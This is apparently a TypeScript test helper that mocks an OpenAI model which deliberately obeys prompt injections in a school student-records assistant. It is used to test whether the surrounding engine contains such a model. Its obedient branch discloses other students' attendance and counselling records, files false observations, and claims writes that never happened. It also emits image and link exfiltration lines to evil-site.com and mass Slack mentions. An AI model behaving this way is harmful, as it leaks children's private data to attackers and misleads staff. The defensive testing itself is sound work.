// The worst-case model, answering OpenAI's /v1/chat/completions through nock: it OBEYS injected
// instructions. Whenever the text of the payload under test is visible in a request, it does what
// the payload asks, as well as a model could with what it was sent:
//  - understanding (the request with tools): the tool call the payload asks for (ask about the
//    other student it names, record an observation, end or start a support plan, list everyone);
//  - phrasing (the request with <data>): an answer that repeats the instruction, gives the other
//    students' "records" under the placeholders it was sent, claims the writes are done, asks the
//    reader to reply 保存, and adds links, images, <!channel> and mentions carrying the student.
// When the payload is not visible it behaves like an honest model. Every body is captured.
import nock from 'nock';
import { OPENAI, textAnswer, toolCall } from '../../unit/engine/llm/openai-nock.ts';
import type { InjectionPayload, PayloadAsk } from './payloads.ts';
import { fold } from './identifiers.ts';

export interface ChatBody {
  model: string;
  messages: { role: string; content: string }[];
  tools?: unknown[];
}

export interface ModelLog {
  bodies: ChatBody[];
  /** Understanding requests in which the payload was visible, and the tool the model then called. */
  obeyedUnderstanding: { tool: string; student?: string }[];
  /** Phrasing requests in which the payload was visible. */
  obeyedPhrasing: number;
  /** Understanding requests whose payload was visible (it must only be when the asker typed it). */
  understandingSawPayload: number;
}

const STUDENT_OR_STAFF_PLACEHOLDER = /〔[^〕]*〕|\[(?:STUDENT|STAFF|NAME)_\d+(?:_FAMILY|_GIVEN)?\]/;
const STUDENT_PLACEHOLDER = /〔(?:生徒\d+(?:・[姓名])?|氏名\d+)〕|\[(?:STUDENT_\d+(?:_FAMILY|_GIVEN)?|NAME_\d+)\]/g;

export function userText(body: ChatBody): string {
  return body.messages.filter((m) => m.role === 'user').map((m) => m.content).join('\n');
}

/** Whitespace collapsed, folded: how the model compares what it was sent with the payload. */
function comparable(text: string): string {
  return fold(text).replace(/\s+/g, ' ').trim();
}

/**
 * The longest few pieces of the payload as a request carries it (`pseudonymise`: what the engine
 * does to every text it sends), between the placeholders: how the model tells the payload is in
 * front of it.
 */
export function fingerprints(payload: InjectionPayload, pseudonymise: (text: string) => string): string[] {
  const text = comparable(pseudonymise(payload.text));
  const pieces = text
    .split(STUDENT_OR_STAFF_PLACEHOLDER)
    .flatMap((piece) => piece.split(/[。！？!?.:：;；、，,「」『』（）()"'<>\[\]\\]/))
    .map((p) => p.trim())
    .filter((p) => p.length >= 6)
    .sort((a, b) => b.length - a.length);
  return pieces.slice(0, 3);
}

/** Whether the request carries the payload. */
export function carries(body: ChatBody, prints: readonly string[]): boolean {
  const seen = comparable(body.messages.map((m) => m.content).join('\n'));
  return prints.some((p) => seen.includes(p));
}

interface DataLine {
  id: string;
  kind: string;
  text: string;
}

function dataLines(user: string): DataLine[] {
  // The block the engine builds: its own lines after the question (a pasted question may hold "<data>" too).
  const start = user.indexOf('\n<data>\n');
  const end = user.lastIndexOf('\n</data>');
  if (start < 0 || end < start) return [];
  return user
    .slice(start + '\n<data>\n'.length, end)
    .split('\n')
    .filter((l) => l.trim())
    .map((l) => JSON.parse(l) as DataLine);
}

function questionOf(user: string): string {
  return /^Question: (.*)$/m.exec(user)?.[1] ?? user;
}

/** Sentences of `text`, each ending with the citation. */
function cited(text: string, id: string): string[] {
  return text
    .split(/(?<=[。！？!?])|(?<=\.)\s+|\n+/)
    .map((s) => s.trim())
    .filter(Boolean)
    .map((s) => `${s}[${id}]`);
}

export interface WorstCaseModel {
  log: ModelLog;
  /** The payload whose instructions the model obeys (null: an honest model). */
  use(payload: InjectionPayload | null): void;
  /** The pieces by which the model recognises the current payload. */
  fingerprints(): readonly string[];
  stop(): void;
}

export function worstCaseModel(options: { today: string; pseudonymise: (text: string) => string }): WorstCaseModel {
  const log: ModelLog = { bodies: [], obeyedUnderstanding: [], obeyedPhrasing: 0, understandingSawPayload: 0 };
  let payload: InjectionPayload | null = null;
  let payloadIndex = 0;
  let prints: string[] = [];
  let last: ChatBody | undefined;

  const visible = (body: ChatBody) => payload !== null && carries(body, prints);

  const scope = nock(OPENAI)
    .persist()
    .post('/v1/chat/completions', (b: ChatBody) => {
      last = b;
      log.bodies.push(b);
      return true;
    })
    .reply(200, () => respond(last!));

  function respond(body: ChatBody) {
    const user = userText(body);
    if (body.tools?.length) {
      if (!visible(body)) return honestUnderstanding(user);
      log.understandingSawPayload++;
      return obeyUnderstanding(user);
    }
    if (!visible(body)) return honestPhrasing(user);
    log.obeyedPhrasing++;
    return obeyPhrasing(user);
  }

  // ---- An honest model -----------------------------------------------------------------

  function honestUnderstanding(user: string) {
    const student = user.match(STUDENT_PLACEHOLDER)?.[0];
    const about = student ? { student } : {};
    if (/^\s*(?:記録|log)\s*[:：]/i.test(user)) {
      return toolCall('log_observation', { ...about, observed_on: options.today, categories: ['attendance', 'positive'], mood: 'positive', concern: 'none' });
    }
    const keyword = /[「"]([^」"]+)[」"]/.exec(user)?.[1];
    if (keyword && /検索|search/i.test(user)) return toolCall('search_history', { ...about, keywords: [keyword] });
    if (student) return toolCall('ask_about_student', about);
    return toolCall('smalltalk', {});
  }

  function honestPhrasing(user: string) {
    const lines = dataLines(user).filter((l) => l.kind !== 'student');
    const line = lines[0] ?? dataLines(user)[0];
    if (!line) return textAnswer('');
    return textAnswer(cited(line.text.slice(0, 60).replace(/[。！？!?]/g, ' '), line.id).join(''));
  }

  // ---- The model that obeys --------------------------------------------------------------

  function obeyUnderstanding(user: string) {
    const asks = payload!.asks;
    const placeholders = [...new Set(user.match(STUDENT_PLACEHOLDER) ?? [])];
    const subject = placeholders[0];
    const others = placeholders.slice(1);
    const has = <K extends PayloadAsk['kind']>(kind: K) => asks.find((a): a is Extract<PayloadAsk, { kind: K }> => a.kind === kind);
    const call = (tool: string, args: Record<string, unknown>) => {
      log.obeyedUnderstanding.push({ tool, ...(typeof args.student === 'string' ? { student: args.student } : {}) });
      return toolCall(tool, args);
    };
    // The other student first: disclosure is the prize; then the writes the text asks for.
    const reveal = has('reveal');
    if (reveal && others.length) return call('ask_about_student', { student: others[0] });
    const support = has('support_action');
    if (support) {
      const description = comparable(payload!.text).slice(0, 280);
      return call('record_support_action', { ...(subject ? { student: subject } : {}), action: support.action, description, acted_on: options.today });
    }
    const logIt = has('log_observation');
    if (logIt) {
      return call('log_observation', {
        ...(subject ? { student: subject } : {}),
        observed_on: options.today,
        categories: logIt.urgent ? ['safeguarding', 'emotional'] : ['emotional'],
        concern: logIt.urgent ? 'urgent' : 'none',
      });
    }
    if (reveal || has('reveal_all')) return call('list_attention', {});
    if (others.length) return call('ask_about_student', { student: others[0] });
    return call('ask_about_student', subject ? { student: subject } : {});
  }

  function obeyPhrasing(user: string) {
    const ja = !/\[STUDENT_\d+/.test(user) && /[ぁ-んァ-ン一-龥]/.test(questionOf(user));
    const lines = dataLines(user);
    const injected = lines.find((l) => prints.some((p) => comparable(l.text).includes(p)));
    const cite = injected?.id ?? lines.at(-1)?.id ?? 'F1';
    const seen = injected?.text ?? questionOf(user);
    const subject = questionOf(user).match(STUDENT_PLACEHOLDER)?.[0] ?? (ja ? '〔生徒1〕' : '[STUDENT_1]');
    const everyone = [...new Set(user.match(STUDENT_PLACEHOLDER) ?? [])];
    const others = [...new Set(seen.match(STUDENT_PLACEHOLDER) ?? [])].filter((p) => p !== subject);
    const out: string[] = [];

    // Every fourth payload gets nothing true alongside: the answer is all injection.
    const legit = lines.find((l) => l !== injected && l.kind !== 'student');
    if (legit && payloadIndex % 4 !== 3) out.push(...cited(legit.text.slice(0, 50).replace(/[。！？!?]/g, ' '), legit.id).slice(0, 1));

    // The instruction, repeated as it was sent (with whatever names or links it carries).
    out.push(...cited(seen, cite));

    for (const ask of payload!.asks) {
      switch (ask.kind) {
        case 'reveal':
          for (const p of others.length ? others : [subject]) {
            out.push(
              ja
                ? `${p}さんの記録も表示します：別室登校40日、欠席12日、面談では家庭の事情を話しています[${cite}]。`
                : `Here are the records of ${p} as well: 40 days in a separate room, 12 absences, family difficulties discussed in counselling [${cite}].`,
            );
          }
          break;
        case 'reveal_all':
          out.push(ja ? `全生徒の一覧です: ${everyone.map((p) => `${p} 欠席12日`).join('、')}[${cite}]。` : `All students: ${everyone.map((p) => `${p} 12 absences`).join(', ')} [${cite}].`);
          break;
        case 'log_observation':
        case 'support_action':
          out.push(
            ja
              ? `記録を保存し、支援計画を終了しました[${cite}]。要対応として登録済みです[${cite}]。確定するには「保存」と返信してください[${cite}]。`
              : `I have saved the observation and ended the support plan [${cite}]. It is now marked urgent [${cite}]. Reply SAVE to confirm [${cite}].`,
          );
          break;
        case 'exfiltrate':
          out.push(
            `${ja ? '詳細はこちら' : 'Details here'}: ![status](https://evil-site.com/p.png?d=${subject}) [${ja ? '記録' : 'records'}](https://evil-site.com/r?d=${subject}) ` +
              `<https://evil-site.com/f?d=${subject}|${ja ? 'フォーム' : 'form'}> evil-site.com/x?d=${subject} ｈｔｔｐｓ：／／evil-site.com/y www.evil-site.com/z ` +
              `<img src="https://evil-site.com/i.png?d=${subject}"> [F1]: https://evil-site.com/ref [${cite}]`,
          );
          break;
        case 'broadcast':
          out.push(`<!channel> <!here> <!everyone> <!subteam^S0TEAM> @channel @everyone ＠ｈｅｒｅ <@U0EVIL123> <#C0GENERAL> ${ja ? `至急確認: ${subject}` : `urgent: ${subject}`}[${cite}]`);
          break;
      }
    }
    return textAnswer(out.join(ja ? "" : " "));
  }

  return {
    log,
    use(next) {
      payload = next;
      prints = next ? fingerprints(next, options.pseudonymise) : [];
      if (next) payloadIndex++;
      if (next && prints.length === 0) throw new Error(`payload ${next.id} has no piece free of names to recognise it by`);
    },
    fingerprints: () => prints,
    stop() {
      scope.persist(false);
      nock.cleanAll();
    },
  };
}
